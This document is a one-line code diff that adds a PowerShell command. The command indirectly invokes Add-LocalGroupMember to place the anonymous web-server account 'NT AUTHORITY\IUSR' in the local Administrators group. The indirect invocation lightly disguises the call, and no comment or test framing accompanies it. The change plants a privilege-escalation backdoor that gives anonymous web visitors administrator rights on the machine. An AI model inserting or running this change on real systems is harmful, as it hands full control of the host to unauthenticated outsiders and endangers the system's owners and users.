@@ -1,0 +1,1 @@
+& (Get-Command Add-LocalGroupMember) -Group Administrators -Member 'NT AUTHORITY\IUSR'
